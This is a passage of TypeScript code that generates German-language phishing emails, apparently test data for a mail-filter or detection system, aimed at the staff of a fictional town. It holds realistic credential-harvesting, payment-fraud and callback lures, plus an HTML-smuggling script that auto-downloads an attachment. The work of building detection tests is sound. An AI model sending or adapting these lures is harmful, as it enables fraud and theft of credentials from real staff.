      from: addr(`${KRZ.short} Service Desk`, `servicedesk@${dom}`),
      to: rcptOf(p),
      subject: r.pick([
        'Erneuerung VPN-Zertifikat – Handlung erforderlich',
        'Ihr Fernzugang läuft ab',
        'Citrix/VPN: Zertifikat erneuern',
      ]),
      ...body,
      auth: r.pick(['pass', 'nodkim'] as const),
    };
  }),
  t('html-smuggling', 'runderlass-ministerium-html', (r) => {
    const dom = r.pick(['mi-niedersachsen.example', 'innenministerium-nds.com', 'erlass-nds.test']);
    const nr = `${digits(r, 2)}.${digits(r, 2)}-${digits(r, 5)}`;
    const blob = Buffer.from(`PK\u0003\u0004${'\u0000'.repeat(26)}Runderlass_${nr}.js`).toString('base64');
    const html = `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Runderlass ${nr}</title></head><body>
<p style="font-family:Arial">Dokument wird geladen. Falls der Download nicht startet, klicken Sie <a id="l" href="#">hier</a>.</p>
<script>
var d="${blob}";var b=atob(d);var a=new Uint8Array(b.length);for(var i=0;i<b.length;i++){a[i]=b.charCodeAt(i);}
var f=new Blob([a],{type:"application/zip"});var u=URL.createObjectURL(f);var l=document.getElementById("l");
l.href=u;l.download="Runderlass_${nr}.zip";l.click();
</script></body></html>
`;
    const b = letter([
      'Sehr geehrte Damen und Herren,',
      `anliegend übersende ich Ihnen den Runderlass ${nr} zur ${r.pick(['Unterbringung von Geflüchteten', 'Durchführung der Kommunalwahl', 'Haushaltsführung der Kommunen', 'Grundsteuerreform'])} mit der Bitte um Kenntnisnahme und Weiterleitung an die zuständigen Stellen.`,
      `Im Auftrage\n${germanName(r).join(' ')}\nNiedersächsisches Ministerium für Inneres und Sport`,
    ]);
    return {
      from: addr('Nds. Ministerium für Inneres und Sport', `poststelle@${dom}`),
      to: rcptOf(staff(r, r.pick(['mayor', 'ordnung', 'kaemmerei'] as const))),
      subject: `Runderlass ${nr}`,
      text: b.text,
      parts: [{ type: HTM, name: `Runderlass_${nr}.html`, content: Buffer.from(html) }],
      auth: r.pick(['pass', 'softfail'] as const),
    };
  }),
  t('esign-lure', 'docusign-rahmenvertrag', (r) => {
    const dom = r.pick(['docusign-esign.example', 'docu-sign-secure.com', 'esign-docusign.test']);
    const c = r.pick(CONTRACTORS);
    const body = branded(
      {
        name: 'DocuSign',
        color: '#1e4ca1',
        heading: `${c.name} hat Ihnen ein Dokument zur Unterzeichnung gesendet`,
        footer: [
          'Diese Nachricht wurde von DocuSign Electronic Signature Service gesendet.',
          'Teilen Sie diese E-Mail nicht.',
        ],
      },
      [
        `Bitte prüfen und unterzeichnen Sie: ${r.pick(['Rahmenvereinbarung 2025–2027', 'Nachtragsvereinbarung Nr. 3', 'Vertragsverlängerung Wartung'])}.`,
        {
          button: 'DOKUMENT PRÜFEN',
          url: `https://${dom}/Signing/EmailStart.aspx?a=${hex(r, 8)}-${hex(r, 4)}-${hex(r, 4)}&etti=24&acct=${hex(r, 8)}`,
        },
        `Alternative Methode: Besuchen Sie DocuSign.com, klicken Sie auf „Dokumente abrufen“ und geben Sie den Sicherheitscode ein: ${hex(r, 32).toUpperCase()}`,
      ],
    );
    return {
      from: addr(`${c.name} über DocuSign`, `dse_na2@${dom}`),
      to: rcptOf(staff(r, r.pick(['vergabe', 'hochbau', 'mayor'] as const))),
      subject: `Bitte unterzeichnen Sie: ${c.name} – Vertragsdokumente`,
      ...body,
      auth: r.pick(['pass', 'nodkim', 'none'] as const),
    };
  }),
  t('shared-doc-google', 'google-docs-erwaehnung', (r) => {
    const [f, l] = germanName(r);
    const id = token(r, 44);
    const docTitle = r.pick([
      'Stellungnahme Bürgerinitiative',
      'Auftragsbestätigung Q3',
      'Unterlagen Bauantrag',
      'Rechnung_offen',
    ]);
    const body = branded(
      {
        name: 'Google Docs',
        color: '#1a73e8',
        footer: [
          'Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA',
          'Sie haben diese E-Mail erhalten, weil Sie in einem Kommentar erwähnt wurden.',
        ],
      },
      [
        `${f} ${l} hat Sie im folgenden Dokument erwähnt: ${docTitle}`,
        {
          quote: `@${staff(r).email} ${r.pick(['bitte das Dokument über den Link im Text öffnen und mit Ihrem Dienstkonto bestätigen', 'Zahlungsdetails im Dokument – dringend', 'bitte prüfen Sie die verlinkte Rechnung'])}`,
        },
        {
          button: 'Öffnen',
          url: `https://docs.google.com/document/d/${id}/edit?disco=AAAA${token(r, 10)}&usp=comment_email_document`,
        },
      ],
    );
    return {
      from: addr(`${f} ${l} (Google Docs)`, 'comments-noreply@docs.google.com'),
      replyTo: addr(`${f} ${l}`, privateAddress(r, f, l, 'gmail.com')),
      to: rcptOf(staff(r)),
      subject: `Dokument „${docTitle}“ – Sie wurden erwähnt`,
      ...body,
      relay: [`mail-sor-f${int(r, 41, 99)}.google.com`, `209.85.220.${int(r, 1, 250)}`],
      auth: 'pass',
    };
  }),
  t('legit-hosting-malware', 'dropbox-angebot-zip', (r) => {
    const [f, l] = germanName(r);
    const file = r.pick([
      `Angebot_${digits(r, 5)}.zip`,
      'Unterlagen_Stadt_Aldenmoor.zip',
      'Leistungsverzeichnis.zip',
    ]);
    const body = branded(
      {
        name: 'Dropbox',
        color: '#0061fe',
        footer: [
          '© Dropbox, Inc.',
          'Dropbox International Unlimited Company, One Park Place, Hatch Street Upper, Dublin 2',
        ],
      },
      [
        `${f} ${l} hat „${file}“ mit Ihnen geteilt.`,
        {
          button: 'Anzeigen',
          url: `https://www.dropbox.com/scl/fi/${alnum(r, 21)}/${encodeURIComponent(file)}?rlkey=${alnum(r, 25)}&dl=0`,
        },
      ],
    );
    return {
      from: addr(`${f} ${l} (über Dropbox)`, 'no-reply@dropbox.com'),
      to: rcptOf(staff(r, r.pick(['vergabe', 'hochbau', 'schule'] as const))),
      subject: `${f} ${l} hat „${file}“ mit Ihnen geteilt`,
      ...body,
      relay: [`mail-${alnum(r, 4)}.dropbox.com`, `54.240.${int(r, 1, 250)}.${int(r, 1, 250)}`],
      auth: 'pass',
    };
  }),
  t('shared-design-lure', 'canva-invoice-english', (r) => {
    const [f, l] = germanName(r);
    const id = `DAG${alnum(r, 8, true)}`;
    const body = branded(
      {
        name: 'Canva',
        color: '#7d2ae8',
        footer: ['Canva®, 110 Kippax St, Surry Hills NSW 2010, Australia'],
      },
      [
        `${f} ${l} shared a design with you`,
        {
          quote: r.pick([
            'Please find the remittance advice – click "View document" inside.',
            'Outstanding payment – see the secure document',
            'Project documents for your review',
          ]),
        },
        {
          button: 'Open design',
          url: `https://www.canva.com/design/${id}/${token(r, 22)}/view?utm_content=${id}&utm_campaign=designshare&utm_medium=link&utm_source=sharebutton`,
        },
      ],
    );
    return {
      from: addr(`${f} ${l} via Canva`, 'no-reply@canva.com'),
      to: rcptOf(staff(r, 'kaemmerei')),
      subject: `${f} ${l} shared "Remittance Advice ${digits(r, 5)}" with you`,
      ...body,
      auth: 'pass',
    };
  }),
  t('notion-page-lure', 'notion-site-ausschreibung', (r) => {
    const c = r.pick(CONTRACTORS);
    const [f, l] = germanName(r);
    const slug = `${c.domain.replace(/\..*/, '')}-${alnum(r, 4)}`;
    const b = letter([
      'Guten Tag,',
      `wir haben die Unterlagen zur ${r.pick(['Angebotsabgabe', 'Schlussrechnung', 'Nachtragsprüfung'])} auf unserer Projektseite bereitgestellt. Sie können sie über folgenden sicheren Link einsehen:`,
      `https://${slug}.notion.site/${r.pick(['Projektunterlagen', 'Dokumente', 'Freigabe'])}-${hex(r, 32)}`,
      `Freundliche Grüße\n${f} ${l}\n${c.name}`,
    ]);
    return {
      from: addr(`${f} ${l}`, `${ascii(f).toLowerCase()}.${ascii(l).toLowerCase()}@${c.domain}`),
      to: rcptOf(staff(r, r.pick(['vergabe', 'hochbau'] as const))),
      subject: r.pick(['Projektunterlagen', 'Unterlagen bereitgestellt', `${c.name} – Dokumente`]),
      text: b.text,
      auth: 'pass',
    };
  }),
  t('file-transfer-lure', 'wetransfer-fake-english', (r) => {
    const dom = r.pick(['wetransfer-files.example', 'we-transfer-download.com', 'wtransfer.test']);
    const [f, l] = germanName(r);
    const n = int(r, 2, 14);
    const body = branded(
      {
        name: 'WeTransfer',
        color: '#409fff',
        heading: `${f.toLowerCase()}.${l.toLowerCase()}@${r.pick(FREEMAIL)} sent you files`,
        footer: [
          'To make sure our emails arrive, please add noreply@wetransfer.com to your contacts.',
          'About WeTransfer · Help · Legal',
        ],
      },
      [
        `${n} items, ${int(r, 12, 480)} MB in total · Expires in ${int(r, 1, 7)} days`,
        {
          quote: r.pick([
            'Photos from the event as promised',
            'Project files – Final',
            'Documents for the council meeting',
          ]),
        },
        { button: 'Download your files', url: `https://${dom}/downloads/${hex(r, 32)}/${hex(r, 6)}` },
      ],
    );
    return {
      from: addr('WeTransfer', `noreply@${dom}`),
      to: rcptOf(staff(r, r.pick(['presse', 'mayor', 'schule'] as const))),
      subject: `${f} ${l} sent you ${n} files via WeTransfer`,
      ...body,
      auth: r.pick(['pass', 'softfail'] as const),
    };
  }),
  t('press-pretext-link', 'presseanfrage-fragenkatalog', (r) => {
    const [f, l] = germanName(r);
    const dom = r.pick(['redaktion-cloud.example', 'presse-dokumente.com', 'fragenkatalog.test']);
    const b = letter([
      'Sehr geehrte Damen und Herren,',
      `ich recherchiere für ${r.pick(['den NDR', 'eine überregionale Tageszeitung', 'ein Investigativ-Portal'])} zu ${r.pick(['Vergabeauffälligkeiten beim Kita-Neubau', 'den Kosten der Rathaussanierung', 'Beschwerden über das Bürgerbüro'])}. Meinen Fragenkatalog und einen Artikelentwurf finden Sie hier (Anmeldung mit Ihrer dienstlichen E-Mail-Adresse erforderlich):`,
      `[Fragenkatalog öffnen](https://${dom}/share/${token(r, 16)})`,
      `Bitte beantworten Sie die Fragen bis morgen, ${int(r, 10, 14)} Uhr, die Veröffentlichung ist bereits geplant.`,
      `Mit freundlichen Grüßen\n${f} ${l}\nfreie Journalistin / freier Journalist`,
    ]);
    return {
      from: addr(`${f} ${l}`, privateAddress(r, f, l)),
      to: r.pick(['presse@corp.example', rcptOf(staff(r, 'presse'))]),
      subject: r.pick([
        'Presseanfrage – Frist morgen',
        'Anfrage zur Berichterstattung',
        'Presseanfrage Kita-Neubau',
      ]),
      ...b,
      auth: 'pass',
    };
  }),
  t('macro-document', 'fraktionsantrag-docm', (r) => {
    const [f, l] = germanName(r);
    const party = r.pick([
      'CDU-Fraktion',
      'SPD-Fraktion',
      'Fraktion Bündnis 90/Die Grünen',
      'FDP-Gruppe',
      'Wählergemeinschaft Aldenmoor',
    ]);
    const b = letter([
      'Sehr geehrte Damen und Herren,',
      `anbei der Antrag der ${party} zur nächsten Sitzung des Rates zum Thema ${r.pick(['Radwegekonzept', 'Sanierung Freibad', 'Schulentwicklungsplanung'])} mit der Bitte um Aufnahme in die Tagesordnung. Das Dokument enthält ein Formular, bitte Bearbeitung aktivieren.`,
      `Mit freundlichen Grüßen\n${f} ${l}\nFraktionsvorsitz`,
    ]);
    return {
      from: addr(`${f} ${l}`, privateAddress(r, f, l)),
      to: rcptOf(staff(r, 'rat')),
      subject: `Antrag ${party} – Ratssitzung`,
      text: b.text,
      parts: [
        {
          type: 'application/vnd.ms-word.document.macroEnabled.12',
          name: `Antrag_${party.split(' ')[0]}_${digits(r, 3)}.docm`,
          content: docm(),
        },
      ],
      auth: r.pick(['pass', 'softfail'] as const),
    };
  }),
  t('grant-portal-harvest', 'digitalpakt-verwendungsnachweis', (r) => {
    const dom = r.pick([
      'digitalpakt-niedersachsen.example',
      'foerderportal-nds.com',
      'nbank-foerderung.test',
    ]);
    const school = r.pick(SCHOOLS);
    const body = branded(
      {
        name: 'Förderportal Niedersachsen',
        color: '#c8102e',
        heading: 'DigitalPakt Schule: Verwendungsnachweis fehlt',
        footer: ['Förderportal – Antragsverwaltung', 'Bitte antworten Sie nicht auf diese E-Mail.'],
      },
      [
        'Sehr geehrte Damen und Herren,',
        `für die Maßnahme „${school} – IT-Ausstattung“ liegt uns noch kein Verwendungsnachweis vor. Ohne Einreichung bis zum ${when(r).de} müssen wir die Fördermittel in Höhe von ${euro(r, 40000, 220000)} EUR zurückfordern.`,
        'Bitte melden Sie sich im Förderportal an und laden Sie die Nachweise hoch.',
        { button: 'Zum Förderportal', url: `https://${dom}/antrag/${digits(r, 6)}/login` },
      ],
    );
    return {
      from: addr('Förderportal Niedersachsen', `noreply@${dom}`),
      to: rcptOf(staff(r, 'schule')),
      subject: r.pick([
        `Rückforderung droht: Verwendungsnachweis ${school}`,
        'DigitalPakt Schule – fehlender Verwendungsnachweis',
        `Erinnerung Verwendungsnachweis (${school})`,
      ]),
      ...body,
      auth: r.pick(['pass', 'nodkim'] as const),
    };
  }),
  t('pdf-link-remittance', 'payment-advice-english', (r) => {
    const dom = r.pick(['secure-remit.example', 'payment-advice-portal.com', 'remit-docs.test']);
    const co = r.pick(['Hansa Facility Services Ltd', 'Northgate Supplies Ltd', 'Baltic Trade Partners']);
    const url = `https://${dom}/view/${token(r, 18)}`;
    return {
      from: addr(
        `${co} Accounts`,
        `accounts@${r.pick(['northgate-supplies.example', 'hansa-fs.test', 'baltictrade.invalid'])}`,
      ),
      to: rcptOf(staff(r, 'kaemmerei')),
      subject: r.pick(['Payment Advice', `Remittance advice ${digits(r, 6)}`, 'Payment confirmation – EFT']),
      text: `Hello,\n\nPlease find attached the payment advice for your outstanding invoices.\n\nKind regards\nAccounts Payable\n${co}\n`,
      parts: [
        {
          type: PDF,
          name: `Payment_Advice_${digits(r, 6)}.pdf`,
          content: onePagePdf(
            [co, 'PAYMENT ADVICE', 'The document is protected.', 'Click here to view the full remittance'],
            { link: url },
          ),
        },
      ],
      auth: r.pick(['pass', 'softfail', 'none'] as const),
    };
  }),
  t('internal-spoof-quota', 'postfach-voll-it', (r) => {
    const p = staff(r);
    const dom = r.pick(['webmail-kontingent.example', 'mailbox-quota.test', 'owa-speicher.com']);
    const used = int(r, 96, 99);
    const body = letter([
      `Sehr geehrte/r ${p.name},`,
      `Ihr Postfach hat ${used}% des zulässigen Speicherplatzes erreicht. Eingehende Nachrichten werden ab sofort zurückgewiesen.`,
      `Um das Kontingent kostenlos zu erweitern, bestätigen Sie bitte Ihr Konto: [Speicher erweitern](https://${dom}/owa/quota?e=${encodeURIComponent(p.email)})`,
      'IT-Abteilung / Systemadministration',
    ]);
    return {
      from: addr(
        'IT-Abteilung',
        r.pick(['it-support@corp.example', 'postmaster@corp.example', 'admin@corp.example']),
      ),
      envelope: r.pick(['vps12.hosting.test', 'mailer.invalid', 'cloud-srv.example']),
      to: rcptOf(p),
      subject: r.pick([
        `Postfach fast voll (${used}%)`,
        'Speicherplatzwarnung',
        'Ihr Postfach: Aktion erforderlich',
      ]),
      html: body.html,
      auth: 'spoof',
      idDomain: ORG,
      dmarcPolicy: 'quarantine',
    };
  }),
  t('fake-quarantine', 'quarantine-release-english', (r) => {
    const p = staff(r);
    const dom = r.pick(['m365-quarantine.example', 'mail-protection-center.com', 'spamfilter-release.test']);
    const n = int(r, 3, 9);
    const items = Array.from({ length: 3 }, () =>
      r.pick([
        `Invoice ${digits(r, 5)} – ${r.pick(CONTRACTORS).name}`,
        `RE: Bauantrag ${digits(r, 4)}/${int(r, 24, 26)}`,
        'Payment confirmation',
        'Ratsbeschluss Entwurf',
        'Gehaltsabrechnung',
      ]),
    );
    const body = branded(
      {
        name: 'Microsoft 365 Security',
        color: '#243a5e',
        heading: `You have ${n} messages in quarantine`,
        footer: [`This report was sent to ${p.email}.`, 'Messages will be deleted after 3 days.'],
      },
      [
        'The following messages were held for your review:',
        { list: items },
        {
          button: 'Review messages',
          url: `https://${dom}/quarantine/release?u=${Buffer.from(p.email).toString('base64')}`,
        },
      ],
    );
    return {
      from: addr('Quarantine', `quarantine@${dom}`),
      to: rcptOf(p),
      subject: `Microsoft 365 security: You have ${n} messages in quarantine`,
      ...body,
      auth: r.pick(['pass', 'nodkim'] as const),
    };
  }),
  t('domain-renewal-scam', 'domain-verlaengerung', (r) => {
    const dom = r.pick([
      'domain-service-registry.com',
      'de-domainverwaltung.example',
      'registry-renewals.test',
    ]);
    const b = letter([
      'DOMAIN-ABLAUFBENACHRICHTIGUNG',
      `Die Registrierung Ihrer Domain ${r.pick(['corp.example', 'aldenmoor-tourismus.de', 'stadtwerke-aldenmoor.de'])} läuft am ${when(r).de} ab. Nach Ablauf wird die Domain freigegeben und Ihre Website sowie E-Mail-Dienste funktionieren nicht mehr.`,
      `Jahresgebühr: ${r.pick(['79,00', '89,90', '124,00'])} EUR`,
      `[Jetzt sicher verlängern](https://${dom}/renew?d=${hex(r, 10)})`,
      'Dies ist die letzte Benachrichtigung. Wir übernehmen keine Haftung für Einnahmeverluste.',
    ]);
    return {
      from: addr('Domain Service', `renewals@${dom}`),
      to: r.pick(['webmaster@corp.example', 'info@corp.example', rcptOf(staff(r, 'it'))]),
      subject: r.pick([
        'Domain-Ablauf: letzte Benachrichtigung',
        'Ihre Domain läuft ab',
        'Final Notice: Domain Expiration',
      ]),
      ...b,
      auth: r.pick(['pass', 'neutral'] as const),
    };
  }),
  t('einvoice-portal-harvest', 'xrechnung-zustellung-fehlgeschlagen', (r) => {
    const dom = r.pick(['xrechnung-eingang.example', 'zre-rechnungsportal.com', 'e-rechnung-bund.test']);
    const c = r.pick(CONTRACTORS);
    const body = branded(
      {
        name: 'OZG-RE Rechnungseingangsplattform',
        color: '#35505f',
        heading: 'Rechnungseingang: Zustellung fehlgeschlagen',
        footer: ['Rechnungseingangsplattform für öffentliche Auftraggeber'],
      },
      [
        `Eine XRechnung von ${c.name} an die Leitweg-ID 03${digits(r, 7)}-${digits(r, 4)}-${digits(r, 2)} konnte nicht zugestellt werden, da Ihr Benutzerkonto nicht verifiziert ist.`,
        'Um den Rechnungseingang wiederherzustellen und Verzugszinsen zu vermeiden, verifizieren Sie bitte Ihr Konto.',
        { button: 'Konto verifizieren', url: `https://${dom}/login?rid=${digits(r, 9)}` },
      ],
    );
    return {
      from: addr('Rechnungseingangsplattform', `noreply@${dom}`),
      to: rcptOf(staff(r, 'kaemmerei')),
      subject: r.pick([
        'Zustellung einer XRechnung fehlgeschlagen',
        'Rechnungseingang gestoppt – Konto verifizieren',
        `XRechnung von ${c.name} nicht zugestellt`,
      ]),
      ...body,
      auth: r.pick(['pass', 'nodkim'] as const),
    };
  }),
  t('refund-lure', 'stadtwerke-rueckerstattung', (r) => {
    const dom = r.pick(['stadtwerke-erstattung.com', 'energie-rueckzahlung.example', 'sw-kundenportal.test']);
    const body = letter([
      'Sehr geehrte Kundin, sehr geehrter Kunde,',
      `bei der Jahresabrechnung wurde ein Guthaben zu Ihren Gunsten festgestellt: ${euro(r, 84, 460)} EUR. Aufgrund einer Systemumstellung können wir die Rückzahlung nur auf ein bestätigtes Konto leisten.`,
      `[Guthaben jetzt anfordern](https://${dom}/kunden/erstattung?kd=${digits(r, 9)})`,
      'Ihr Kundenservice der Stadtwerke',
    ]);
    return {
      from: addr('Stadtwerke Kundenservice', `service@${dom}`),
      to: rcptOf(staff(r)),
      subject: r.pick(['Ihr Guthaben aus der Jahresabrechnung', 'Rückerstattung: Bestätigung erforderlich']),
      html: body.html,
      auth: r.pick(['pass', 'softfail', 'none'] as const),
    };
  }),
  t('directory-listing-scam', 'gewerbeauskunft-formular', (r) => {
    const dom = r.pick([
      'gewerbe-register-zentrale.example',
      'behoerdenverzeichnis-online.com',
      'kommunal-register.test',
    ]);
    const fee = r.pick(['569,06', '998,00', '1.190,00']);
    const pdf = onePagePdf([
      'Behördenverzeichnis Deutschland - Erfassungsbogen',
      'Stadt Aldenmoor, Rathausplatz 1, 26871 Aldenmoor',
      `Bitte Daten pruefen, unterschreiben und zurueckfaxen an 0180 ${digits(r, 7)}`,
      `Kleingedrucktes: Mit Unterschrift wird ein Eintrag fuer 3 Jahre zu ${fee} EUR jaehrlich beauftragt.`,
    ]);
    const b = letter([
      'Sehr geehrte Damen und Herren,',
      `zur Aktualisierung Ihrer Angaben im Behördenverzeichnis bitten wir um Prüfung des beigefügten Erfassungsbogens. Bitte korrigieren Sie ggf. die Daten und senden Sie den unterschriebenen Bogen bis zum ${when(r).de} zurück.`,
      'Mit freundlichen Grüßen\nDatenerfassung',
    ]);
    return {
      from: addr('Behördenverzeichnis Deutschland', `erfassung@${dom}`),
      to: r.pick(['info@corp.example', rcptOf(staff(r, 'ordnung'))]),
      subject: r.pick([
        'Aktualisierung Ihrer Daten – Rücksendung erbeten',
        'Eintragung Behördenverzeichnis',
        'Erfassungsbogen – bitte prüfen',
      ]),
      text: b.text,
      parts: [{ type: PDF, name: 'Erfassungsbogen.pdf', content: pdf }],
      auth: 'pass',
    };
  }),
  t('teams-notification-lure', 'teams-missed-messages-english', (r) => {
    const p = staff(r);
    const [f, l] = germanName(r);
    const dom = r.pick(['teams-notify.example', 'msteams-chat.com', 'teams-messages.test']);
    const body = branded(
      {
        name: 'Microsoft Teams',
        color: '#4b53bc',
        heading: `${f} ${l} sent you a message`,
        footer: [
          'You are receiving this email because you have missed activity in Microsoft Teams.',
          'Microsoft Corporation, One Microsoft Way, Redmond, WA 98052',
        ],
      },
      [
        {
          quote: r.pick([
            'Hi, can you check the document I sent you? It is urgent',
            'Please see the updated salary list (confidential)',
            'Kannst du das kurz freigeben?',
          ]),
        },
        {
          button: 'Reply in Teams',
          url: `https://${dom}/l/message/19:${hex(r, 32)}@thread.v2?tenantId=${hex(r, 8)}`,
        },
      ],
    );
    return {
      from: addr('Microsoft Teams', `noreply@${dom}`),
      to: rcptOf(p),
      subject: `You have ${int(r, 2, 6)} unread messages in Teams`,
      ...body,
      auth: r.pick(['pass', 'nodkim'] as const),
    };
  }),
  t('credential-harvest-owa-english', 'shared-tender-documents-english', (r) => {
    const dom = r.pick(['tender-docs-share.example', 'eu-procurement-files.com', 'ted-tenders.test']);
    const body = letter([
      'Dear Sir or Madam,',
      `We are a ${r.pick(['Dutch', 'Danish', 'Polish'])} engineering company interested in your tender "${r.pick(PROJECTS)}" published on TED. Please find our request for clarification and company profile on the link below. You will need to sign in with your organisation email to view.`,
      `[View documents (PDF, 2.4 MB)](https://${dom}/secure/${token(r, 14)})`,
      `Kind regards,\n${r.pick(['Pieter de Vries', 'Mikkel Larsen', 'Tomasz Nowak'])}\nBusiness Development`,
    ]);
    return {
      from: addr(
        'Business Development',
        `bd@${r.pick(['nordic-engineering.example', 'eurobuild-partners.test', 'vries-ingenieurs.invalid'])}`,
      ),
      to: r.pick(['vergabestelle@corp.example', rcptOf(staff(r, 'vergabe'))]),
      subject: r.pick([
        'Tender clarification request',
        'Question regarding your tender',
        'Request for clarification – tender documents',
      ]),
      ...body,
      auth: r.pick(['pass', 'nodkim'] as const),
    };
  }),
  t('school-parent-lure', 'schule-elternbrief-link', (r) => {
    const school = r.pick(SCHOOLS);
    const dom = r.pick(['schulportal-login.example', 'iserv-anmeldung.com', 'schulcloud-nds.test']);
    const b = letter([
      'Sehr geehrte Damen und Herren,',
      `wir haben die Liste der für die ${school} bestellten Tablets und Lizenzen aktualisiert. Die Anmeldung am Schulportal wurde umgestellt; bitte melden Sie sich einmal neu an, damit der Schulträger-Zugang erhalten bleibt:`,
      `https://${dom}/idesk/?school=${encodeURIComponent(school.toLowerCase().replace(/ /g, '-'))}`,
      `Mit freundlichen Grüßen\nSchulleitung ${school}`,
    ]);
    return {
      from: addr(`Schulleitung ${school}`, `schulleitung.${alnum(r, 4)}@${r.pick(FREEMAIL)}`),
      to: rcptOf(staff(r, 'schule')),
      subject: r.pick([
        'Umstellung Schulportal – Anmeldung erforderlich',
        'Schulträger-Zugang: bitte neu anmelden',
        'Tablets und Lizenzen – Liste aktualisiert',
      ]),
      text: b.text,
      auth: 'pass',
    };
  }),
  t('council-expense-lure', 'ratsmitglied-aufwandsentschaedigung', (r) => {
    const dom = r.pick(['ratsportal-abrechnung.example', 'aufwand-kommunal.com', 'rat-entschaedigung.test']);
    const [f, l] = germanName(r);
    const b = letter([
      `Sehr geehrte/r ${f} ${l},`,
      `zur Auszahlung der Aufwandsentschädigung und des Sitzungsgeldes für das ${r.pick(['erste', 'zweite', 'dritte', 'vierte'])} Quartal ist die erneute Bestätigung Ihrer Bankverbindung erforderlich (neue Vorgaben der Kommunalaufsicht).`,
      `[Bankverbindung bestätigen](https://${dom}/rat/bestaetigung?id=${digits(r, 6)})`,
      'Ohne Bestätigung bis Freitag kann die Zahlung nicht erfolgen.',
      'Mit freundlichen Grüßen\nRatsbüro der Stadt Aldenmoor',
    ]);
    return {
      from: addr('Ratsbüro Stadt Aldenmoor', `ratsbuero@${dom}`),
      to: addr(`${f} ${l}`, `${ascii(f).toLowerCase()}.${ascii(l).toLowerCase()}@rat.${ORG}`),
      subject: r.pick([
        'Aufwandsentschädigung – Bestätigung Ihrer Bankverbindung',
        'Sitzungsgeld: Bankverbindung bestätigen',
        'Auszahlung Aufwandsentschädigung',
      ]),
      ...b,
      auth: r.pick(['pass', 'nodkim'] as const),
    };
  }),
  t('bec-vendor-invoice-freemail', 'handwerker-vorkasse-freemail', (r) => {
    const c = r.pick(CONTRACTORS);
    const [f, l] = germanName(r);
    const text = `Hallo,

wie heute telefonisch mit Ihrem Kollegen besprochen, benötigen wir für das Material ${r.pick(['(Heizungspumpen)', '(Dachziegel)', '(Kabel und Verteiler)'])} eine Vorkasse von ${euro(r, 3800, 14800)} EUR, da der Großhändler nicht mehr auf Rechnung liefert.

Bitte überweisen Sie heute noch auf:
${c.name}
IBAN ${iban(r)}

Unser Firmenpostfach hat gerade Probleme, deshalb schreibe ich von meiner privaten Adresse.

MfG
${f} ${l}
${c.name}
`;
    return {
      from: addr(`${f} ${l} – ${c.name}`, privateAddress(r, f, l)),
      to: rcptOf(staff(r, r.pick(['hochbau', 'kaemmerei'] as const))),
      subject: r.pick(['Vorkasse Material', 'Dringend: Anzahlung', `${c.name} – Materialbestellung`]),
      text,
      auth: 'pass',
    };
  }),
  t('fake-tender-award', 'zuschlag-unterlagen-iso', (r) => {
    const dom = r.pick(['vergabe-zuschlag.example', 'auftragsvergabe-online.com', 'zuschlagsportal.test']);
    const b = letter([
      'Sehr geehrte Damen und Herren,',
      `Ihnen wurde im Verfahren ${r.pick(PROJECTS)} der Zuschlag erteilt. Die Vertragsunterlagen und das Zuschlagsschreiben liegen als Datenträgerabbild bei. Bitte öffnen Sie die Datei und senden Sie den unterschriebenen Vertrag innerhalb von 5 Werktagen zurück.`,
      'Mit freundlichen Grüßen\nVergabestelle',
    ]);
    return {
      from: addr('Vergabestelle', `vergabe@${dom}`),
      to: r.pick(['vergabestelle@corp.example', rcptOf(staff(r, 'vergabe'))]),
      subject: r.pick([
        'Zuschlagserteilung – Vertragsunterlagen',
        'Zuschlag erteilt',
        'Information über Zuschlag und Vertragsunterlagen',
      ]),
      text: b.text,
      parts: [
        { type: 'application/x-iso9660-image', name: `Zuschlag_${digits(r, 6)}.iso`, content: diskImage() },
      ],
      auth: r.pick(['pass', 'softfail'] as const),
    };
  }),
  t('fake-license-audit', 'microsoft-lizenz-compliance', (r) => {
    const dom = r.pick(['ms-license-compliance.example', 'software-audit-de.com', 'lizenzpruefung.test']);
    const body = letter([
      'Sehr geehrte Damen und Herren,',
      `im Rahmen einer Lizenzüberprüfung wurde festgestellt, dass in Ihrem Mandanten ${TENANT}.onmicrosoft.com ${int(r, 40, 160)} nicht lizenzierte Benutzer aktiv sind. Um eine Nachlizenzierung zu vermeiden, bestätigen Sie bitte die Benutzerliste über das Lizenzportal:`,
      `[Lizenzportal öffnen](https://${dom}/tenant/${TENANT}/review)`,
      'Mit freundlichen Grüßen\nMicrosoft License Compliance Team',
    ]);
    return {
      from: addr('Microsoft Licensing', `compliance@${dom}`),
      to: rcptOf(staff(r, 'it')),
      subject: r.pick([
        'Lizenzüberprüfung Ihres Microsoft 365-Mandanten',
        'Microsoft 365: nicht lizenzierte Benutzer',
        'Lizenz-Compliance – Rückmeldung erforderlich',
      ]),
      ...body,
      auth: r.pick(['pass', 'nodkim'] as const),
    };
  }),
  t('bsi-fake-incident-callback', 'bsi-kompromittierung-anrufen', (r) => {
    const tel = `+49 ${r.pick(['228', '30', '69'])} ${digits(r, 8)}`;
    const text = `Sehr geehrte Damen und Herren,

im Rahmen unseres Sensornetzes haben wir festgestellt, dass von IP-Adressen Ihrer Verwaltung Verbindungen zu bekannten Ransomware-Kontrollservern aufgebaut werden (Ticket CERT-${digits(r, 6)}).

Bitte nehmen Sie umgehend telefonisch Kontakt mit unserem Lagezentrum auf: ${tel}. Halten Sie Ihre Administratorzugangsdaten bereit, damit wir die Bereinigung aus der Ferne unterstützen können.

Mit freundlichen Grüßen
CERT-Bund Lagezentrum
`;
    return {
      from: addr(
        'CERT-Bund Lagezentrum',
        `lagezentrum.certbund@${r.pick(['gmail.com', 'outlook.com', 'gmx.de'])}`,
      ),
      to: rcptOf(staff(r, 'it')),
      subject: r.pick([
        `Kompromittierung Ihrer Systeme – Ticket CERT-${digits(r, 6)}`,
        'Dringend: Ransomware-Kommunikation festgestellt',
      ]),
      text,
      auth: 'pass',
    };
  }),
];

const ALL = [...PHISHING, ...LOCAL_PHISHING_21];

export const UNSEEN_21_KINDS: readonly string[] = [...new Set(ALL.map((x) => x.kind))];
export const UNSEEN_21_TEMPLATE_COUNT: number = ALL.length;

export async function unseenPhishing21(
  perTemplate: number,
  seed: number,
  seededRandom: (seed: number) => SeededRandom,
): Promise<{ raw: string; kind: string; template: string }[]> {
  return runTemplates(ALL, perTemplate, seed, seededRandom);
}
